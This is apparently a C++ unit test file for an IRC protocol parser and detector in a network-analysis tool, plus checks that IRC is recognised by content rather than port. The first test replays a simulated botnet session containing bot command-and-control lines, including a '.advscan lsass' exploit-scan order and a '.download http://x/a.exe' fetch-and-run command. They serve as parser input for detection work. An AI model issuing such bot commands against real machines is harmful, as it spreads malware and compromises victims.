// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/protocol/irc_parser.h"
#include "tests/protocol/recording_host.h"

#include <gtest/gtest.h>

using namespace metsuke;

namespace {

RecordingHost runIrc(const std::vector<Turn>& turns, size_t chunk = 1 << 20) {
    RecordingHost host;
    IrcParser parser;
    play(parser, host, turns, chunk);
    return host;
}
ProbeResult probeAs(std::string_view orig, std::string_view resp = {}) { return probeIrc({asBytes(orig), asBytes(resp), 1, 6667}); }

} // namespace

TEST(IrcParser, BotSession_isToldCommandByCommand) {
    const std::vector<Turn> turns{fromClient("NICK [USA|XP]123456\r\nUSER bot 0 0 :real name\r\n"),
        fromServer(":srv NOTICE AUTH :*** hello\r\n:srv 001 [USA|XP]123456 :welcome\r\nPING :x\r\n"), fromClient("PONG :x\r\nJOIN #own key\r\n"),
        fromServer(":srv 332 [USA|XP]123456 #own :.advscan lsass 100 5 0 -r\r\n:boss!a@b PRIVMSG #own :.download http://x/a.exe c:\\a.exe 1\r\n"),
        fromClient("PRIVMSG boss :\x01" "DCC SEND a.exe 1 2 3\x01\nQUIT")};
    const auto host = runIrc(turns);
    for (const size_t chunk : {1U, 3U, 17U}) {
        EXPECT_EQ(fingerprint(runIrc(turns, chunk)), fingerprint(host));
    }
    const auto events = host.of<IrcEvent>();
    ASSERT_EQ(events.size(), 7U);
    EXPECT_EQ(events[0].command, "NICK");
    EXPECT_EQ(events[0].value, "[USA|XP]123456");
    EXPECT_EQ(events[1].user, "bot");
    EXPECT_EQ(events[1].addl, "real name");
    EXPECT_EQ(events[3].command, "JOIN");
    EXPECT_EQ(events[3].channel, "#own");
    EXPECT_EQ(events[3].nick, "[USA|XP]123456");
    EXPECT_EQ(events[4].command, "332");
    EXPECT_EQ(events[4].channel, "#own");
    EXPECT_TRUE(events[4].addl.starts_with(".advscan"));
    EXPECT_EQ(events[5].nick, "boss");
    EXPECT_TRUE(events[5].from_server);
    EXPECT_EQ(events[6].command, "DCC");
}

TEST(IrcProbe, Content_decidesNotPort) {
    EXPECT_EQ(probeAs("NICK a\r\n"), ProbeResult::Yes);
    EXPECT_EQ(probeAs("PASS x\r\nNICK a\r\n"), ProbeResult::Yes);
    EXPECT_EQ(probeAs("USER a b c :d\n"), ProbeResult::Yes);
    EXPECT_EQ(probeAs("", ":irc.x NOTICE * :*** Looking up\r\n"), ProbeResult::Yes);
    EXPECT_EQ(probeAs("USER anonymous\r\n"), ProbeResult::Maybe);
    EXPECT_EQ(probeAs("GET / HTTP/1.1\r\n"), ProbeResult::No);
    EXPECT_EQ(probeAs("EHLO x\r\n", "220 mail ESMTP\r\n"), ProbeResult::No);
}
